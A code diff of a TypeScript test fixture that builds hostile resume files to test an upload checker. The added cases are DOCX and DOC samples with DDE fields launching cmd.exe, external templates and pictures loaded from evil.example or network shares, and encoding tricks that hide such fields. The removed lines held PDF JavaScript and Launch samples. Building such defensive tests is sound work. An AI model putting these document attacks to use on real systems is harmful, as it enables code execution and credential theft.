@@ -1,13 +1,12 @@
 import {
   contentTypes,
-  objectStream,
-  pdfStream,
-  pdfWith,
+  docWith,
+  docxWithRuns,
+  fieldRuns,
   relationship,
   relationships,
   sampleDocx,
   sampleOle,
-  samplePdf,
   sampleZip,
   wordEntries,
 } from './resume.testkit.ts';
@@ -19,7 +18,6 @@ const documentRels = 'word/_rels/document.xml.rels';
 const settingsRels = 'word/_rels/settings.xml.rels';
 const external = 'TargetMode="External"';
 const ole = 'd0cf11e0a1b11ae1';
-const javaScript = '<</S/JavaScript/JS(app.alert(1))>>';
 
 /** Returns a document with an additional relationship. */
 function related(type: string, target: string, more = '', rels = documentRels): Buffer {
@@ -32,7 +30,7 @@ function withRelationships(content: string | Buffer): Buffer {
 }
 
 const bombBytes = 70 * 1024 * 1024;
-const externalPicture = relationship('image', 'https://evil.example/x.png', external);
+const externalPicture = relationship('image', 'http://evil.example/x.png', external);
 
 /** Hostile DOCX files. */
 export const hostilePackages: readonly HostileResume[] = [
@@ -42,10 +40,84 @@ export const hostilePackages: readonly HostileResume[] = [
   ['a template on a share, as five slashes', related('attachedTemplate', 'file://///evil.example/t', external)],
   ['a template on a share, escaped', related('attachedTemplate', 'file:///%5C%5Cevil.example/t', external)],
   ['an object that is loaded from a server', related('oleObject', 'mhtml:https://evil.example!x-usc:x', external)],
-  ['a picture that is loaded from a server', related('image', 'https://evil.example/x.png', external)],
+  ...[
+    'http://evil.example/x.png',
+    'file://evil.example/x.png',
+    'file:////evil.example/x.png',
+    String.raw`\\evil.example\x.png`,
+    '//evil.example/x.png',
+    'smb://evil.example/x',
+    '%5C%5Cevil.example/x.png',
+    'https:evil.example',
+    'https://a@evil.example/',
+    'file:///%5C%5Cevil.example/x',
+  ].map((target) => [`a picture at ${target}`, related('image', target, external)] as const),
+  ...[
+    'file:////evil/Users/t.dotm',
+    'file://Evil/Library/t.dotm',
+    'file:///evil/t.dotm',
+    'file://localhost/evil/t.dotm',
+    'Evil%20HD:t.dotm',
+    't%2Fdotm',
+    'a/t.dotm',
+    'smb:t.dotm',
+    String.raw`file:///Users/\\\\evil`,
+  ].map((target) => [`a template at ${target}`, related('attachedTemplate', target, external, settingsRels)] as const),
+  ['a data source on a share', related('mailMergeSource', 'file://evil.example/x.mdb', external, settingsRels)],
+  [
+    'a query of a share',
+    sampleDocx({
+      name: 'word/settings.xml',
+      content:
+        '<w:settings xmlns:w="w"><w:mailMerge><w:query w:val="SELECT * FROM \\\\evil\\x"/></w:mailMerge></w:settings>',
+    }),
+  ],
+  [
+    'a field that starts a program',
+    docxWithRuns(fieldRuns('DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
+  ],
+  [
+    'a field that starts a program, deleted and restored',
+    docxWithRuns(fieldRuns(' d', '<w:r><w:delInstrText>de x y</w:delInstrText></w:r>')),
+  ],
+  ['a simple field that starts a program', docxWithRuns('<w:fldSimple w:instr=" DDE cmd /k "/>')],
+  ['a field with entities that starts a program', docxWithRuns('<w:fldSimple w:instr="&#x44;DE cmd"/>')],
+  ['a field whose name another field makes', docxWithRuns(fieldRuns(fieldRuns('QUOTE 68 68 69'), ' cmd'))],
+  [
+    'a field without an end',
+    docxWithRuns(fieldRuns('DDEAUTO cmd').replace(/<w:r><w:fldChar w:fldCharType="end".*/, '')),
+  ],
+  ['a field that inserts a file of a share', docxWithRuns(fieldRuns('INCLUDETEXT "\\\\\\\\evil\\\\x"'))],
+  [
+    'a picture of a share in a field',
+    docxWithRuns(fieldRuns('INCLUDEPICTURE \\d "\\\\\\\\evil\\\\x.png" \\* MERGEFORMAT')),
+  ],
+  ['a picture of a server in a field', docxWithRuns(fieldRuns('INCLUDEPICTURE http://evil.example/x.png'))],
+  [
+    'a picture whose address another field makes',
+    docxWithRuns(fieldRuns('INCLUDEPICTURE "', fieldRuns('MERGEFIELD x'), '"')),
+  ],
+  ['a picture of VML at a server', docxWithRuns('<v:imagedata xmlns:v="v" src="http://evil.example/x.png"/>')],
+  [
+    'fields in UTF-16',
+    sampleDocx({
+      name: 'word/header1.xml',
+      content: Buffer.from(`\ufeff<w:hdr xmlns:w="w">${fieldRuns('DDE x')}</w:hdr>`, 'utf16le'),
+    }),
+  ],
+  [
+    'fields in UTF-7',
+    sampleDocx({
+      name: 'word/header1.xml',
+      content: `<?xml version="1.0" encoding="utf-7"?><w:hdr xmlns:w="w">${fieldRuns('x')}</w:hdr>`,
+    }),
+  ],
+  ['a PDF before its parts', sampleZip([{ name: '%PDF-1.7', content: 'x' }, ...wordEntries])],
+  ['a program after it', Buffer.concat([sampleDocx(), Buffer.from('MZ\x90\0', 'latin1')])],
+  ['a web page after it', Buffer.concat([sampleDocx(), Buffer.from('<script>alert(1)</script>')])],
   ['a frame of another document', related('frame', 'https://evil.example/', external)],
-  ['a server that is not declared as external', related('image', 'https://evil.example/x.png')],
-  ['an external target in other letters', related('image', 'x.png', 'TargetMode="external"')],
+  ['a server that is not declared as external', related('image', 'http://evil.example/x.png')],
+  ['an external target in other letters', related('frame', 'x.png', 'TargetMode="external"')],
   ['an object in a package', related('package', 'embeddings/evil.docx')],
   ['an embedded object', related('oleObject', 'embeddings/oleObject1.bin')],
   [
@@ -81,10 +153,6 @@ export const hostilePackages: readonly HostileResume[] = [
     'a bomb that declares 1 kB',
     sampleDocx({ name: 'word/media/image1.bmp', content: Buffer.alloc(bombBytes), declaredBytes: 1_000 }),
   ],
-  [
-    'a list of relationships without end',
-    sampleDocx({ name: documentRels, content: relationships(' '.repeat(2_000_000)) }),
-  ],
   ['relationships in UTF-16', withRelationships(Buffer.from(`\ufeff${relationships(externalPicture)}`, 'utf16le'))],
   ['relationships in UTF-16, no mark', withRelationships(Buffer.from(relationships(externalPicture), 'utf16le'))],
   [
@@ -117,41 +185,15 @@ export const hostilePackages: readonly HostileResume[] = [
   ['a part in pieces', sampleDocx({ name: `${documentRels}/[0].piece`, content: relationships(externalPicture) })],
 ].map(([what, content]) => [what, 'resume.docx', content] as HostileResume);
 
-/** Hostile PDF files. */
-export const hostilePdfs: readonly HostileResume[] = [
-  ['a web page before the PDF', Buffer.concat([Buffer.from('<script>alert(1)</script>\n'), samplePdf()])],
-  ['a program before the PDF', Buffer.concat([Buffer.from('MZ\x90\0'), samplePdf()])],
-  ['a ZIP before the PDF', Buffer.concat([sampleZip(wordEntries), samplePdf()])],
-  ['a script', pdfWith(`/OpenAction${javaScript}`)],
-  ['a script by its name', pdfWith('/Names<</JavaScript 2 0 R>>', '<</Names[(a) 3 0 R]>>')],
-  ['a script under an escaped name', pdfWith('/OpenAction<</S /J#61va#53cript /JS(x)>>')],
-  ['a script behind a comment', pdfWith('/OpenAction<</S%(\n/JavaScript/JS(x)>>')],
-  ['a script behind a string', pdfWith('/X(a\\)(b)c)/OpenAction<</S/JavaScript/JS(x)>>')],
-  ['a script that poses as the place of a link', pdfWith('/OpenAction<</S /JavaScript [0]/JS(x)>>')],
-  ['a script in an object stream', pdfWith('/OpenAction 9 0 R', objectStream(javaScript))],
-  ['a script in an object stream without a type', pdfWith('/OpenAction 9 0 R', objectStream(javaScript, ''))],
-  [
-    'a script in an object stream of another filter',
-    pdfWith('', pdfStream('3c3c>', '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode')),
-  ],
-  [
-    'a script in an object stream of a filter elsewhere',
-    pdfWith('', pdfStream('9 0 x', '/Type/ObjStm/N 1/First 4/Filter 3 0 R')),
-  ],
-  ['a bomb in an object stream', pdfWith('', objectStream(' '.repeat(60_000_000)))],
-  ['an object inside a stream', pdfWith('/OpenAction 9 0 R', pdfStream(`9 0 obj ${javaScript} endobj`))],
-  ['an object inside a string', pdfWith(`/X(9 %\n0 obj ${javaScript} endobj)`)],
-  ['a stream without an end', pdfWith('', `<<>>\nstream\n${javaScript}`)],
-  ['a string without an end', pdfWith(`/X(${javaScript}`)],
-  ['a program to start', pdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>')],
-  ['a file inside', pdfWith('', pdfStream('MZ', '/Type/EmbeddedFile'))],
-  ['a file inside, without a type', pdfWith('/Names<</EmbeddedFiles<</Names[(a) 2 0 R]>>>>', '<</EF<</F 3 0 R>>>>')],
-].map(([what, content]) => [what, 'resume.pdf', content] as HostileResume);
-
 /** Hostile DOC files. */
 export const hostileBinaries: readonly HostileResume[] = [
   ['embedded objects', sampleOle(['WordDocument', { name: 'ObjectPool', kind: 'storage' }])],
   ['an object of another program', sampleOle(['WordDocument', '\x01Ole10Native'])],
   ['an equation', sampleOle(['WordDocument', 'Equation Native'])],
   ['macros', sampleOle(['WordDocument', { name: 'Macros', kind: 'storage' }])],
+  ['a field that starts a program', docWith('x\x13DDEAUTO cmd /k calc\x14y\x15')],
+  ['a field in a field that starts a program', docWith('\x13\x13QUOTE 68\x14DDE\x15 cmd\x14y\x15')],
+  ['a picture of a share', docWith('\x13INCLUDEPICTURE "\\\\\\\\evil\\\\x.png" \\* MERGEFORMAT\x15')],
+  ['a template on a share', docWith('x', String.raw`\\evil.example\t.dot`)],
+  ['a template on a server', docWith('x', 'https://evil.example/t.dot')],
 ].map(([what, content]) => [what, 'resume.doc', content] as HostileResume);
